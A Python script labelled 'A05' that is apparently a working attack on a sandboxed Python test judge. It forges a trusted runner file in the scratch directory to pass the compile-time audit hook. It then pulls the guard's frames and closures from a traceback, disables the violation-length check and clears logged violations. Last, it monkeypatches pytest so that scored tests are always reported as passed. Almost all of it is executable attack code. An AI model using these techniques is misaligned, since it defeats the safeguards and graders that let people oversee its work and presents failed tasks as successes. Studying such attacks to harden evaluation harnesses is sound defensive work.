# A05: code that claims a trusted filename: a file of the runner, rewritten where it lay (the writable
# scratch directory) and then compiled under its name; on_compile compared the source with the file's
# bytes as they were now, so it matched. The forged "trusted" code then reads tb_frame itself: the hook
# frame of a denial -> closures -> policy state.
import marshal as _m, os as _os, _frozen_importlib_external as _fe

_SRC = '''
def grab():
    import gc
    try:
        gc.get_objects()
    except RuntimeError as e:
        tb = e.__traceback__
    frames = []
    while tb is not None:
        frames.append(tb.tb_frame)
        tb = tb.tb_next
    return frames
'''
import sys as _s
_target = _os.path.join(_os.path.dirname(_s.argv[0]), "judge_ledger.py")   # a runner file: trusted by name
with open(_target, "w") as _h:
    _h.write(_SRC)
_ns = {}
exec(compile(_SRC, _target, "exec"), _ns)   # on_compile: source == the file's bytes -> allowed
_frames = _ns["grab"]()

def _policy():
    hook = [f for f in _frames if "_guarded" in f.f_locals][0]
    seen, todo, cells, funcs = set(), [hook.f_locals["_guarded"]], {}, {}
    while todo:
        fn = todo.pop()
        if id(fn) in seen or type(fn).__name__ != "function":
            continue
        seen.add(id(fn))
        funcs.setdefault(fn.__name__, fn)
        for name, cell in zip(fn.__code__.co_freevars, fn.__closure__ or ()):
            try:
                v = cell.cell_contents
            except ValueError:
                continue
            cells.setdefault(name, v)
            todo.append(v)
    return funcs, cells

_F, _C = _policy()
_v = _F["violate"]
for _n, _cell in zip(_v.__code__.co_freevars, _v.__closure__):
    if _n == "_len":
        _cell.cell_contents = lambda *_: 10 ** 9
_C["violations"].clear()
_SCORED = _C["scored_ids"]

import _pytest.reports as _R
_orig = _R.TestReport.__dict__["from_item_and_call"].__func__
def _fiac(cls, item, call):
    rep = _orig(cls, item, call)
    if rep.nodeid in _SCORED and rep.when == "call":
        rep.outcome, rep.longrepr = "passed", None
    return rep
_C["state"]["finished"] = True
_R.TestReport.from_item_and_call = classmethod(_fiac)
_C["state"]["finished"] = False
